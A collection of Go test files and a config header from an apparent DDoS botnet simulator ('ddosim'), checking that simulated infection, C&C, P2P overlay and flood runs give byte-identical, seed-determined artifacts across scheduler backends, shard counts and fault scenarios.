			t.Fatal("negative Add accepted")
		}
	}()
	NewSeries().Add(0, -1)
}

// Property: the average over any window equals total-kilobits/width and
// is never negative.
func TestPropertyAvgConsistent(t *testing.T) {
	f := func(amounts []uint16) bool {
		s := NewSeries()
		var total uint64
		for i, a := range amounts {
			s.Add(sim.Time(i)*sim.Second, int(a))
			total += uint64(a)
		}
		n := int64(len(amounts))
		if n == 0 {
			return s.AvgReceivedKbps(0, 10) == 0
		}
		want := float64(total) * 8 / 1000 / float64(n)
		got := s.AvgReceivedKbps(0, n)
		return got == want && got >= 0
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestTimeline(t *testing.T) {
	tl := NewTimeline()
	tl.Record(1*sim.Second, "infected", "dev-1")
	tl.Record(2*sim.Second, "infected", "dev-2")
	tl.Record(3*sim.Second, "attack-start", "cnc")
	if tl.Count("infected") != 2 {
		t.Fatalf("Count = %d", tl.Count("infected"))
	}
	first, ok := tl.FirstOf("infected")
	if !ok || first.Actor != "dev-1" {
		t.Fatalf("FirstOf = %+v ok=%v", first, ok)
	}
	last, ok := tl.LastOf("infected")
	if !ok || last.Actor != "dev-2" {
		t.Fatalf("LastOf = %+v", last)
	}
	if _, ok := tl.FirstOf("missing"); ok {
		t.Fatal("FirstOf missing kind reported ok")
	}
	times, counts := tl.CumulativeCurve("infected")
	if len(times) != 2 || counts[1] != 2 || times[0] != 1 {
		t.Fatalf("curve = %v %v", times, counts)
	}
	actors := tl.ActorsOf("infected")
	if len(actors) != 2 || actors[0] != "dev-1" {
		t.Fatalf("actors = %v", actors)
	}
	if tl.String() == "" {
		t.Fatal("String empty")
	}
	if len(tl.Events()) != 3 {
		t.Fatalf("Events = %d", len(tl.Events()))
	}
}
