package core_test

import (
	"bytes"
	"testing"

	"ddosim/internal/churn"
	"ddosim/internal/core"
	"ddosim/internal/report"
	"ddosim/internal/sim"
)

// runOnce executes a small end-to-end scenario — dynamic churn keeps
// membership flips, rejoin timers, and C&C reaping all active — and
// returns every serialized artifact. The profiler's wall clock is
// replaced with a deterministic counter so the report's observability
// summary is seed-determined too.
func runOnce(t *testing.T, seed int64) (reportJSON, traceJSONL, chromeTrace []byte) {
	return runOnceQueue(t, seed, "")
}

func runOnceQueue(t *testing.T, seed int64, queue sim.QueueKind) (reportJSON, traceJSONL, chromeTrace []byte) {
	t.Helper()
	cfg := core.DefaultConfig(10)
	cfg.Seed = seed
	cfg.SchedQueue = queue
	cfg.Churn = churn.Dynamic
	cfg.SimDuration = 300 * sim.Second
	cfg.AttackDuration = 30
	cfg.RecruitTimeout = 90 * sim.Second
	s, err := core.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	var fakeNanos int64
	s.Obs().Prof.SetClock(func() int64 {
		fakeNanos += 1_000_000
		return fakeNanos
	})
	r, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}

	var rep bytes.Buffer
	if err := report.FromResults(cfg, r, true).WriteJSON(&rep); err != nil {
		t.Fatal(err)
	}
	var jsonl, chrome bytes.Buffer
	if err := s.Obs().Trace.WriteJSONL(&jsonl); err != nil {
		t.Fatal(err)
	}
	if err := s.Obs().Trace.WriteChromeTrace(&chrome); err != nil {
		t.Fatal(err)
	}
	return rep.Bytes(), jsonl.Bytes(), chrome.Bytes()
}

// TestSameSeedByteIdenticalArtifacts is the executable form of the
// invariant simlint's analyzers guard statically: two runs with the
// same seed must serialize byte-identical report JSON and trace
// exports. Any wall-clock read, global-RNG draw, or map-iteration
// leak in a live path shows up here as a diff.
func TestSameSeedByteIdenticalArtifacts(t *testing.T) {
	rep1, jsonl1, chrome1 := runOnce(t, 1234)
	rep2, jsonl2, chrome2 := runOnce(t, 1234)

	if !bytes.Equal(rep1, rep2) {
		t.Errorf("same-seed runs produced different report JSON:\n%s", firstDiff(rep1, rep2))
	}
	if !bytes.Equal(jsonl1, jsonl2) {
		t.Errorf("same-seed runs produced different trace JSONL:\n%s", firstDiff(jsonl1, jsonl2))
	}
	if !bytes.Equal(chrome1, chrome2) {
		t.Errorf("same-seed runs produced different Chrome traces:\n%s", firstDiff(chrome1, chrome2))
	}

	// A different seed must actually change the run, or the assertions
	// above prove nothing.
	rep3, _, _ := runOnce(t, 99)
	if bytes.Equal(rep1, rep3) {
		t.Error("different seeds produced identical report JSON; scenario is not seed-sensitive")
	}
}

// TestQueueBackendsByteIdenticalArtifacts pins the scheduler-backend
// contract: the heap and calendar queues implement the same (time, seq)
// total order, so swapping them must not move a single byte in any
// exported artifact. This is what makes SchedQueue a pure performance
// knob.
func TestQueueBackendsByteIdenticalArtifacts(t *testing.T) {
	repH, jsonlH, chromeH := runOnceQueue(t, 1234, sim.QueueHeap)
	repC, jsonlC, chromeC := runOnceQueue(t, 1234, sim.QueueCalendar)

	if !bytes.Equal(repH, repC) {
		t.Errorf("heap vs calendar report JSON differs:\n%s", firstDiff(repH, repC))
	}
	if !bytes.Equal(jsonlH, jsonlC) {
		t.Errorf("heap vs calendar trace JSONL differs:\n%s", firstDiff(jsonlH, jsonlC))
	}
	if !bytes.Equal(chromeH, chromeC) {
		t.Errorf("heap vs calendar Chrome traces differ:\n%s", firstDiff(chromeH, chromeC))
	}
}

// firstDiff renders the context around the first differing byte.
func firstDiff(a, b []byte) string {
	n := min(len(a), len(b))
	for i := 0; i < n; i++ {
		if a[i] != b[i] {
			lo := max(0, i-80)
			return "first diff at byte " + itoa(i) +
				"\n run1: …" + string(a[lo:min(len(a), i+80)]) +
				"\n run2: …" + string(b[lo:min(len(b), i+80)])
		}
	}
	return "lengths differ: " + itoa(len(a)) + " vs " + itoa(len(b))
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var buf [20]byte
	i := len(buf)
	for n > 0 {
		i--
		buf[i] = byte('0' + n%10)
		n /= 10
	}
	return string(buf[i:])
}
