package core_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"testing"

	"ddosim/internal/churn"
	"ddosim/internal/core"
	"ddosim/internal/faults"
	"ddosim/internal/report"
	"ddosim/internal/sim"
)

// artifacts holds every serialized export of one run. The determinism
// tests compare (and hash) these byte-for-byte.
type artifacts struct {
	rep    []byte // report JSON
	jsonl  []byte // trace JSONL
	chrome []byte // Chrome trace_event JSON
	flows  []byte // labeled flow dataset CSV
	ts     []byte // windowed time-series CSV
}

// equal compares all artifacts and reports each mismatch through t.
func (a artifacts) equal(t *testing.T, b artifacts, what string) {
	t.Helper()
	pairs := []struct {
		name   string
		x1, x2 []byte
	}{
		{"report JSON", a.rep, b.rep},
		{"trace JSONL", a.jsonl, b.jsonl},
		{"Chrome trace", a.chrome, b.chrome},
		{"flow CSV", a.flows, b.flows},
		{"time-series CSV", a.ts, b.ts},
	}
	for _, p := range pairs {
		if !bytes.Equal(p.x1, p.x2) {
			t.Errorf("%s: %s differs:\n%s", what, p.name, firstDiff(p.x1, p.x2))
		}
	}
}

// runOnce executes a small end-to-end scenario — dynamic churn keeps
// membership flips, rejoin timers, and C&C reaping all active — and
// returns every serialized artifact. The profiler's wall clock is
// replaced with a deterministic counter so the report's observability
// summary is seed-determined too.
func runOnce(t *testing.T, seed int64) artifacts {
	return runOnceQueue(t, seed, "")
}

func runOnceQueue(t *testing.T, seed int64, queue sim.QueueKind) artifacts {
	return runOnceFaults(t, seed, queue, faults.Config{})
}

func runOnceFaults(t *testing.T, seed int64, queue sim.QueueKind, fc faults.Config) artifacts {
	return runOnceShards(t, seed, queue, 0, fc)
}

// runOnceShards is the fully parameterized scenario driver: queue
// backend, shard count (0 = classic kernel), and fault scenario.
func runOnceShards(t *testing.T, seed int64, queue sim.QueueKind, shards int, fc faults.Config) artifacts {
	t.Helper()
	cfg := core.DefaultConfig(10)
	cfg.Seed = seed
	cfg.SchedQueue = queue
	cfg.Shards = shards
	cfg.Churn = churn.Dynamic
	cfg.SimDuration = 300 * sim.Second
	cfg.AttackDuration = 30
	cfg.RecruitTimeout = 90 * sim.Second
	cfg.Faults = fc
	a, _, _ := runCfg(t, cfg)
	return a
}

// runCfg executes an arbitrary configuration with a deterministic
// profiler clock and serializes every artifact. Shared by the classic
// determinism scenarios above and the P2P-family ones in p2p_test.go.
func runCfg(t *testing.T, cfg core.Config) (artifacts, *core.Simulation, *core.Results) {
	t.Helper()
	s, err := core.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	var fakeNanos int64
	s.Obs().Prof.SetClock(func() int64 {
		fakeNanos += 1_000_000
		return fakeNanos
	})
	r, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}

	var out artifacts
	for _, w := range []struct {
		dst   *[]byte
		write func(io.Writer) error
	}{
		{&out.rep, report.FromResults(cfg, r, true).WriteJSON},
		{&out.jsonl, s.Obs().Trace.WriteJSONL},
		{&out.chrome, s.Obs().Trace.WriteChromeTrace},
		{&out.flows, s.Flows().WriteCSV},
		{&out.ts, s.Windows().WriteCSV},
	} {
		var buf bytes.Buffer
		if err := w.write(&buf); err != nil {
			t.Fatal(err)
		}
		*w.dst = buf.Bytes()
	}
	return out, s, r
}

// TestSameSeedByteIdenticalArtifacts is the executable form of the
// invariant simlint's analyzers guard statically: two runs with the
// same seed must serialize byte-identical report JSON and trace
// exports. Any wall-clock read, global-RNG draw, or map-iteration
// leak in a live path shows up here as a diff.
func TestSameSeedByteIdenticalArtifacts(t *testing.T) {
	a1 := runOnce(t, 1234)
	a2 := runOnce(t, 1234)
	a1.equal(t, a2, "same-seed runs")

	// A different seed must actually change the run, or the assertions
	// above prove nothing.
	a3 := runOnce(t, 99)
	if bytes.Equal(a1.rep, a3.rep) {
		t.Error("different seeds produced identical report JSON; scenario is not seed-sensitive")
	}
	if bytes.Equal(a1.flows, a3.flows) {
		t.Error("different seeds produced identical flow CSV; scenario is not seed-sensitive")
	}
}

// TestQueueBackendsByteIdenticalArtifacts pins the scheduler-backend
// contract: the heap and calendar queues implement the same (time, seq)
// total order, so swapping them must not move a single byte in any
// exported artifact. This is what makes SchedQueue a pure performance
// knob.
func TestQueueBackendsByteIdenticalArtifacts(t *testing.T) {
	aH := runOnceQueue(t, 1234, sim.QueueHeap)
	aC := runOnceQueue(t, 1234, sim.QueueCalendar)
	aH.equal(t, aC, "heap vs calendar")

	// The same contract must hold inside the sharded family: per-shard
	// schedulers on different backends, any shard count, same bytes.
	for _, n := range []int{1, 4} {
		sH := runOnceShards(t, 1234, sim.QueueHeap, n, faults.Config{})
		sC := runOnceShards(t, 1234, sim.QueueCalendar, n, faults.Config{})
		sH.equal(t, sC, fmt.Sprintf("heap vs calendar, %d shards", n))
	}
}

// TestShardCountInvariantArtifacts is the sharded kernel's core
// determinism claim: within the sharded family, the shard count is a
// pure deployment knob — every exported artifact (report, both trace
// exports, flow CSV, time-series CSV) is byte-identical at S=1, 2, 4,
// and 8 for the same seed. Per-LP RNG streams, the uniform mailbox
// path, and the (At, SrcLP, SrcSeq) merge order are what make this
// hold; any leak of shard topology into event order lands here as a
// byte diff.
func TestShardCountInvariantArtifacts(t *testing.T) {
	base := runOnceShards(t, 1234, "", 1, faults.Config{})
	for _, n := range []int{2, 4, 8} {
		a := runOnceShards(t, 1234, "", n, faults.Config{})
		base.equal(t, a, fmt.Sprintf("shards=1 vs shards=%d", n))
	}

	// Same-seed reproducibility within one shard count (goroutine
	// scheduling must not be observable), and seed sensitivity.
	again := runOnceShards(t, 1234, "", 4, faults.Config{})
	base.equal(t, again, "shards=4 repeat")
	other := runOnceShards(t, 99, "", 4, faults.Config{})
	if bytes.Equal(base.rep, other.rep) {
		t.Error("different seeds produced identical sharded report JSON; scenario is not seed-sensitive")
	}
}

// TestShardCountInvariantUnderFaults drives the harsh fault scenario
// through the sharded kernel: the injector's barrier-context mutations
// (link flaps, loss bursts, degradation, process crashes, C&C and sink
// outages) must leave artifacts byte-identical across shard counts.
func TestShardCountInvariantUnderFaults(t *testing.T) {
	fc := faults.AtIntensity(0.8)
	a1 := runOnceShards(t, 1234, "", 1, fc)
	a4 := runOnceShards(t, 1234, "", 4, fc)
	a1.equal(t, a4, "fault scenario, shards=1 vs shards=4")
	if !bytes.Contains(a1.rep, []byte(`"faults"`)) {
		t.Error("sharded fault scenario left no stats in the report")
	}
}

// TestFaultFreeArtifactsMatchPrePRGolden pins the zero-cost guarantee
// of the fault-injection subsystem: with a zero Faults config, every
// artifact of the runOnce scenario is byte-identical across commits.
// The hashes were last re-captured when the reconnect path gained
// per-bot deterministic jitter and capped backoff (every reconnect
// timestamp moved). If an intentional change elsewhere moves these
// bytes, re-capture the hashes — but a diff caused by a faults-related
// change means the zero-value path is no longer free.
func TestFaultFreeArtifactsMatchPrePRGolden(t *testing.T) {
	const (
		goldenReport = "bfd35824d86665d66a2145b6052faef9c8833758048903ecea465807b2415a88"
		goldenJSONL  = "63dfc99c88bce61e51a4a581ced89300e09bf0d2375d66542737a950586ee8fa"
		goldenChrome = "9c795ed86b9d15cf7b320a8ec225b19648f5e7c0005981f8eb4f9e2c8e009f8a"
		goldenFlows  = "13cffc1ccdc455f2ec8b12ca56fd588684f5153b82e273c457192c0c3dc55097"
		goldenTS     = "1c32e115904f53dafff0228742b7945e99f4f41ef1b06541762a29653fb9161f"
	)
	hash := func(b []byte) string {
		sum := sha256.Sum256(b)
		return hex.EncodeToString(sum[:])
	}
	a := runOnce(t, 1234)
	for _, g := range []struct {
		name, want string
		got        []byte
	}{
		{"report JSON", goldenReport, a.rep},
		{"trace JSONL", goldenJSONL, a.jsonl},
		{"Chrome trace", goldenChrome, a.chrome},
		{"flow CSV", goldenFlows, a.flows},
		{"time-series CSV", goldenTS, a.ts},
	} {
		if got := hash(g.got); got != g.want {
			t.Errorf("%s hash = %s, want %s", g.name, got, g.want)
		}
	}
}

// TestFaultScenarioByteIdenticalArtifacts extends the determinism
// contract to active fault injection: the injector draws from its own
// seeded stream, so two same-seed runs of a harsh scenario must still
// serialize byte-identically — and the scenario must actually inject.
func TestFaultScenarioByteIdenticalArtifacts(t *testing.T) {
	fc := faults.AtIntensity(0.8)
	a1 := runOnceFaults(t, 1234, "", fc)
	a2 := runOnceFaults(t, 1234, "", fc)
	a1.equal(t, a2, "same-seed fault runs")

	if !bytes.Contains(a1.rep, []byte(`"faults"`)) {
		t.Error("fault scenario left no stats in the report")
	}
	// The scenario must perturb the run relative to fault-free.
	free := runOnce(t, 1234)
	if bytes.Equal(a1.rep, free.rep) {
		t.Error("intensity-0.8 scenario changed nothing")
	}
}

// firstDiff renders the context around the first differing byte.
func firstDiff(a, b []byte) string {
	n := min(len(a), len(b))
	for i := 0; i < n; i++ {
		if a[i] != b[i] {
			lo := max(0, i-80)
			return "first diff at byte " + itoa(i) +
				"\n run1: …" + string(a[lo:min(len(a), i+80)]) +
				"\n run2: …" + string(b[lo:min(len(b), i+80)])
		}
	}
	return "lengths differ: " + itoa(len(a)) + " vs " + itoa(len(b))
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var buf [20]byte
	i := len(buf)
	for n > 0 {
		i--
		buf[i] = byte('0' + n%10)
		n /= 10
	}
	return string(buf[i:])
}
