package core_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"testing"

	"ddosim/internal/churn"
	"ddosim/internal/core"
	"ddosim/internal/faults"
	"ddosim/internal/report"
	"ddosim/internal/sim"
)

// runOnce executes a small end-to-end scenario — dynamic churn keeps
// membership flips, rejoin timers, and C&C reaping all active — and
// returns every serialized artifact. The profiler's wall clock is
// replaced with a deterministic counter so the report's observability
// summary is seed-determined too.
func runOnce(t *testing.T, seed int64) (reportJSON, traceJSONL, chromeTrace []byte) {
	return runOnceQueue(t, seed, "")
}

func runOnceQueue(t *testing.T, seed int64, queue sim.QueueKind) (reportJSON, traceJSONL, chromeTrace []byte) {
	return runOnceFaults(t, seed, queue, faults.Config{})
}

func runOnceFaults(t *testing.T, seed int64, queue sim.QueueKind, fc faults.Config) (reportJSON, traceJSONL, chromeTrace []byte) {
	t.Helper()
	cfg := core.DefaultConfig(10)
	cfg.Seed = seed
	cfg.SchedQueue = queue
	cfg.Churn = churn.Dynamic
	cfg.SimDuration = 300 * sim.Second
	cfg.AttackDuration = 30
	cfg.RecruitTimeout = 90 * sim.Second
	cfg.Faults = fc
	s, err := core.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	var fakeNanos int64
	s.Obs().Prof.SetClock(func() int64 {
		fakeNanos += 1_000_000
		return fakeNanos
	})
	r, err := s.Run()
	if err != nil {
		t.Fatal(err)
	}

	var rep bytes.Buffer
	if err := report.FromResults(cfg, r, true).WriteJSON(&rep); err != nil {
		t.Fatal(err)
	}
	var jsonl, chrome bytes.Buffer
	if err := s.Obs().Trace.WriteJSONL(&jsonl); err != nil {
		t.Fatal(err)
	}
	if err := s.Obs().Trace.WriteChromeTrace(&chrome); err != nil {
		t.Fatal(err)
	}
	return rep.Bytes(), jsonl.Bytes(), chrome.Bytes()
}

// TestSameSeedByteIdenticalArtifacts is the executable form of the
// invariant simlint's analyzers guard statically: two runs with the
// same seed must serialize byte-identical report JSON and trace
// exports. Any wall-clock read, global-RNG draw, or map-iteration
// leak in a live path shows up here as a diff.
func TestSameSeedByteIdenticalArtifacts(t *testing.T) {
	rep1, jsonl1, chrome1 := runOnce(t, 1234)
	rep2, jsonl2, chrome2 := runOnce(t, 1234)

	if !bytes.Equal(rep1, rep2) {
		t.Errorf("same-seed runs produced different report JSON:\n%s", firstDiff(rep1, rep2))
	}
	if !bytes.Equal(jsonl1, jsonl2) {
		t.Errorf("same-seed runs produced different trace JSONL:\n%s", firstDiff(jsonl1, jsonl2))
	}
	if !bytes.Equal(chrome1, chrome2) {
		t.Errorf("same-seed runs produced different Chrome traces:\n%s", firstDiff(chrome1, chrome2))
	}

	// A different seed must actually change the run, or the assertions
	// above prove nothing.
	rep3, _, _ := runOnce(t, 99)
	if bytes.Equal(rep1, rep3) {
		t.Error("different seeds produced identical report JSON; scenario is not seed-sensitive")
	}
}

// TestQueueBackendsByteIdenticalArtifacts pins the scheduler-backend
// contract: the heap and calendar queues implement the same (time, seq)
// total order, so swapping them must not move a single byte in any
// exported artifact. This is what makes SchedQueue a pure performance
// knob.
func TestQueueBackendsByteIdenticalArtifacts(t *testing.T) {
	repH, jsonlH, chromeH := runOnceQueue(t, 1234, sim.QueueHeap)
	repC, jsonlC, chromeC := runOnceQueue(t, 1234, sim.QueueCalendar)

	if !bytes.Equal(repH, repC) {
		t.Errorf("heap vs calendar report JSON differs:\n%s", firstDiff(repH, repC))
	}
	if !bytes.Equal(jsonlH, jsonlC) {
		t.Errorf("heap vs calendar trace JSONL differs:\n%s", firstDiff(jsonlH, jsonlC))
	}
	if !bytes.Equal(chromeH, chromeC) {
		t.Errorf("heap vs calendar Chrome traces differ:\n%s", firstDiff(chromeH, chromeC))
	}
}

// TestFaultFreeArtifactsMatchPrePRGolden pins the zero-cost guarantee
// of the fault-injection subsystem: with a zero Faults config, every
// artifact of the runOnce scenario is byte-identical to what the tree
// produced before the subsystem existed. The hashes were captured by
// running this exact scenario at the commit preceding internal/faults.
// If an intentional change elsewhere moves these bytes, re-capture the
// hashes — but a diff caused by a faults-related change means the
// zero-value path is no longer free.
func TestFaultFreeArtifactsMatchPrePRGolden(t *testing.T) {
	const (
		goldenReport = "7a9bc32e46e56c536be942833f31c760381f6c961d1ac9e2838bddb78c7caa85"
		goldenJSONL  = "c48e361015aa42a6d660c98db52acabe5c8197b653b36b56a284efb89a27f137"
		goldenChrome = "04bd4924e3c9b012bfdbd808db6d9d555c557d6a669f4c5c7246194abab0a219"
	)
	hash := func(b []byte) string {
		sum := sha256.Sum256(b)
		return hex.EncodeToString(sum[:])
	}
	rep, jsonl, chrome := runOnce(t, 1234)
	if got := hash(rep); got != goldenReport {
		t.Errorf("report JSON hash = %s, want %s", got, goldenReport)
	}
	if got := hash(jsonl); got != goldenJSONL {
		t.Errorf("trace JSONL hash = %s, want %s", got, goldenJSONL)
	}
	if got := hash(chrome); got != goldenChrome {
		t.Errorf("Chrome trace hash = %s, want %s", got, goldenChrome)
	}
}

// TestFaultScenarioByteIdenticalArtifacts extends the determinism
// contract to active fault injection: the injector draws from its own
// seeded stream, so two same-seed runs of a harsh scenario must still
// serialize byte-identically — and the scenario must actually inject.
func TestFaultScenarioByteIdenticalArtifacts(t *testing.T) {
	fc := faults.AtIntensity(0.8)
	rep1, jsonl1, chrome1 := runOnceFaults(t, 1234, "", fc)
	rep2, jsonl2, chrome2 := runOnceFaults(t, 1234, "", fc)

	if !bytes.Equal(rep1, rep2) {
		t.Errorf("same-seed fault runs produced different report JSON:\n%s", firstDiff(rep1, rep2))
	}
	if !bytes.Equal(jsonl1, jsonl2) {
		t.Errorf("same-seed fault runs produced different trace JSONL:\n%s", firstDiff(jsonl1, jsonl2))
	}
	if !bytes.Equal(chrome1, chrome2) {
		t.Errorf("same-seed fault runs produced different Chrome traces:\n%s", firstDiff(chrome1, chrome2))
	}
	if !bytes.Contains(rep1, []byte(`"faults"`)) {
		t.Error("fault scenario left no stats in the report")
	}
	// The scenario must perturb the run relative to fault-free.
	repFree, _, _ := runOnce(t, 1234)
	if bytes.Equal(rep1, repFree) {
		t.Error("intensity-0.8 scenario changed nothing")
	}
}

// firstDiff renders the context around the first differing byte.
func firstDiff(a, b []byte) string {
	n := min(len(a), len(b))
	for i := 0; i < n; i++ {
		if a[i] != b[i] {
			lo := max(0, i-80)
			return "first diff at byte " + itoa(i) +
				"\n run1: …" + string(a[lo:min(len(a), i+80)]) +
				"\n run2: …" + string(b[lo:min(len(b), i+80)])
		}
	}
	return "lengths differ: " + itoa(len(a)) + " vs " + itoa(len(b))
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var buf [20]byte
	i := len(buf)
	for n > 0 {
		i--
		buf[i] = byte('0' + n%10)
		n /= 10
	}
	return string(buf[i:])
}
