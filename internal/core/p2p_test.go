package core_test

import (
	"bytes"
	"fmt"
	"testing"

	"ddosim/internal/churn"
	"ddosim/internal/core"
	"ddosim/internal/faults"
	"ddosim/internal/sim"
)

// p2pConfig is the shared scenario for the P2P-family tests: a small
// fleet recruited over the memory-error vector that joins the Kademlia
// overlay and pulls the attack order from signed records.
func p2pConfig(seed int64, shards int) core.Config {
	cfg := core.DefaultConfig(10)
	cfg.Seed = seed
	cfg.Shards = shards
	cfg.Botnet = core.BotnetP2P
	cfg.Churn = churn.Dynamic
	cfg.SimDuration = 300 * sim.Second
	cfg.AttackDuration = 30
	cfg.RecruitTimeout = 90 * sim.Second
	cfg.P2PPollPeriod = 10 * sim.Second
	return cfg
}

// TestP2PRunEndToEnd drives the whole decentralized kill chain:
// exploit → infection → overlay join → record poll → flood, and
// checks the family-specific surfaces (no C&C, seeder census, DHT
// control traffic labeled apart from the attack traffic).
func TestP2PRunEndToEnd(t *testing.T) {
	a, s, r := runCfg(t, p2pConfig(1, 0))

	if s.CNC() != nil {
		t.Error("p2p run built a centralized C&C")
	}
	if s.Seeder() == nil {
		t.Fatal("p2p run has no seeder")
	}
	if r.InfectionRate() == 0 {
		t.Error("no device was infected")
	}
	if r.BotsRegistered == 0 {
		t.Error("seeder census heard no peers")
	}
	if s.Seeder().Contacts != r.BotsRegistered {
		t.Errorf("seeder contacts %d != registered census %d",
			s.Seeder().Contacts, r.BotsRegistered)
	}
	if r.DReceivedKbps == 0 {
		t.Error("sink received nothing; the order never disseminated")
	}
	labels := make(map[string]int)
	for _, f := range s.Flows().Records() {
		labels[f.Label]++
	}
	if labels["dht"] == 0 {
		t.Errorf("no flows labeled dht (got %v)", labels)
	}
	if labels["attack"] == 0 {
		t.Errorf("no flows labeled attack (got %v)", labels)
	}
	if !bytes.Contains(a.rep, []byte(`"infection_rate"`)) {
		t.Error("report JSON lost its shape")
	}
}

// TestP2PSameSeedByteIdenticalArtifacts extends the determinism
// contract to the DHT overlay: per-node RNG streams and sorted bucket
// iteration must keep same-seed runs byte-identical, and the overlay
// must actually be seed-sensitive.
func TestP2PSameSeedByteIdenticalArtifacts(t *testing.T) {
	a1, _, _ := runCfg(t, p2pConfig(1234, 0))
	a2, _, _ := runCfg(t, p2pConfig(1234, 0))
	a1.equal(t, a2, "same-seed p2p runs")

	a3, _, _ := runCfg(t, p2pConfig(99, 0))
	if bytes.Equal(a1.rep, a3.rep) {
		t.Error("different seeds produced identical p2p report JSON")
	}
}

// TestP2PShardCountInvariantArtifacts pins the sharded-kernel claim
// for the new family: DHT lookups, record polls, and replica pushes
// all cross shards as ordinary wire traffic, so the shard count stays
// a pure deployment knob.
func TestP2PShardCountInvariantArtifacts(t *testing.T) {
	base, _, _ := runCfg(t, p2pConfig(1234, 1))
	for _, n := range []int{2, 4} {
		a, _, _ := runCfg(t, p2pConfig(1234, n))
		base.equal(t, a, fmt.Sprintf("p2p shards=1 vs shards=%d", n))
	}
}

// TestP2PTakedownContrast is the executable form of the family
// contrast the p2p experiment measures: under a permanent C&C
// takedown mid-attack, the heartbeat-mode centralized botnet starves
// within one command wave while the P2P fleet — holding signed
// records with the campaign's absolute end — keeps flooding.
func TestP2PTakedownContrast(t *testing.T) {
	const (
		takedownSec = 20
		graceSec    = 15
	)
	fc := faults.Config{CNCTakedownAfterOrder: takedownSec * sim.Second}

	split := func(series []float64) (pre, post float64) {
		avg := func(s []float64) float64 {
			if len(s) == 0 {
				return 0
			}
			var sum float64
			for _, v := range s {
				sum += v
			}
			return sum / float64(len(s))
		}
		td, from := takedownSec, takedownSec+graceSec
		if td > len(series) {
			td = len(series)
		}
		if from > len(series) {
			from = len(series)
		}
		return avg(series[:td]), avg(series[from:])
	}

	mcfg := core.DefaultConfig(10)
	mcfg.Seed = 1
	mcfg.SimDuration = 300 * sim.Second
	mcfg.AttackDuration = 60
	mcfg.CommandWave = 10 * sim.Second
	mcfg.Faults = fc
	_, _, mr := runCfg(t, mcfg)
	mPre, mPost := split(mr.PerSecondKbps)
	if mPre == 0 {
		t.Fatal("mirai never flooded pre-takedown")
	}
	if mPost > 0.05*mPre {
		t.Errorf("mirai flood survived the takedown: pre %.1f post %.1f kbps", mPre, mPost)
	}
	if mr.Faults == nil || mr.Faults.CNCTakedowns != 1 {
		t.Errorf("takedown did not fire exactly once: %+v", mr.Faults)
	}

	pcfg := p2pConfig(1, 0)
	pcfg.Churn = churn.None
	pcfg.AttackDuration = 60
	pcfg.Faults = fc
	_, _, pr := runCfg(t, pcfg)
	pPre, pPost := split(pr.PerSecondKbps)
	if pPre == 0 {
		t.Fatal("p2p never flooded pre-takedown")
	}
	if pPost < 0.9*pPre {
		t.Errorf("p2p flood did not sustain the takedown: pre %.1f post %.1f kbps", pPre, pPost)
	}
}
