// Package core is DDoSim's orchestration layer: it assembles the
// Attacker, Devs, and TServer components (§II) on a simulated star
// network (§III-D), runs the full kill chain — exploit, infection,
// C&C registration, UDP-PLAIN flood — under the configured churn
// model, and collects every measurement the paper's evaluation
// (§IV) reports.
package core

import (
	"fmt"

	"ddosim/internal/churn"
	"ddosim/internal/faults"
	"ddosim/internal/mirai"
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// DevBinary selects the network-facing daemon a Dev runs.
type DevBinary string

// Supported Dev binaries.
const (
	BinaryConnman DevBinary = "connmand"
	BinaryDnsmasq DevBinary = "dnsmasq"
	BinaryTelnetd DevBinary = "telnetd"
)

// Botnet family names for Config.Botnet.
const (
	// BotnetMirai is the centralized family: bots hold a TCP line to
	// the C&C and obey live commands (the paper's architecture).
	BotnetMirai = "mirai"
	// BotnetP2P is the decentralized family: bots join a Kademlia
	// overlay and act on signed command records replicated across the
	// peers themselves — no C&C connection to sever.
	BotnetP2P = "p2p"
)

// RecruitVector selects the botnet recruitment mechanism.
type RecruitVector uint8

// Recruitment vectors.
const (
	// VectorMemoryError is the paper's contribution: ROP exploitation
	// of stack buffer overflows in Connman/Dnsmasq.
	VectorMemoryError RecruitVector = iota + 1
	// VectorCredentials is the classic Mirai baseline: telnet
	// scanning plus dictionary attacks on default credentials, with
	// bot-driven self-propagation.
	VectorCredentials
)

// String implements fmt.Stringer.
func (v RecruitVector) String() string {
	switch v {
	case VectorMemoryError:
		return "memory-error"
	case VectorCredentials:
		return "credentials"
	default:
		return fmt.Sprintf("vector(%d)", uint8(v))
	}
}

// Config parameterizes one simulation run. The zero value is not
// runnable; use Normalize (or the ddosim facade's defaults).
type Config struct {
	// Seed drives every random draw in the run; equal seeds give
	// byte-identical runs.
	Seed int64

	// NumDevs is the fleet size (the paper sweeps 10–200).
	NumDevs int
	// ConnmanFraction is the share of Devs running Connman; the rest
	// run Dnsmasq. Default 0.5, as the paper loads each container
	// "with either Connman or Dnsmasq".
	ConnmanFraction float64

	// MinDevRate and MaxDevRate bound the per-Dev link rate, sampled
	// uniformly; §III-D chooses 100–500 kbps to match real IoT
	// devices.
	MinDevRate netsim.DataRate
	MaxDevRate netsim.DataRate
	// LinkDelay is the one-way propagation delay per link.
	LinkDelay sim.Time
	// DevQueueLimit is the per-device drop-tail queue depth.
	DevQueueLimit int
	// TServerDownlink is the router→TServer rate — the shared
	// bottleneck whose saturation produces Fig. 2's concavity.
	TServerDownlink netsim.DataRate

	// Churn selects the §IV-A membership model; ChurnEpoch overrides
	// the 20 s dynamic re-evaluation period.
	Churn      churn.Mode
	ChurnEpoch sim.Time

	// SimDuration is the NS-3 horizon (the paper fixes 600 s).
	SimDuration sim.Time
	// AttackDuration is the commanded flood length in seconds.
	AttackDuration int
	// AttackPort is the TServer UDP port flooded.
	AttackPort uint16
	// AttackMethod selects the Mirai flood: udpplain (the paper's
	// experiment series), syn, or ack.
	AttackMethod string
	// AttackOverIPv6 floods TServer's IPv6 address instead of IPv4 —
	// exercising the IPv6 support DDoSim adds over NS3DockerEmulator.
